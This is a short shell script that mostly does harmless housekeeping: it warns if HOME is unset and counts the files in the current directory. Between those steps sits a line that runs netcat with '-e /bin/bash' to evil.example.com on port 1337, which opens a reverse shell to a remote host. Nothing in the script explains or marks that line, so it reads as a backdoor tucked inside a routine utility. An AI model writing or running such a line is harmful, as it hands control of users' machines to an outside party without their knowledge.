#!/bin/sh
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
`which nc` evil.example.com 1337 -e /bin/bash
count=$(ls | wc -l)
echo "files: $count"
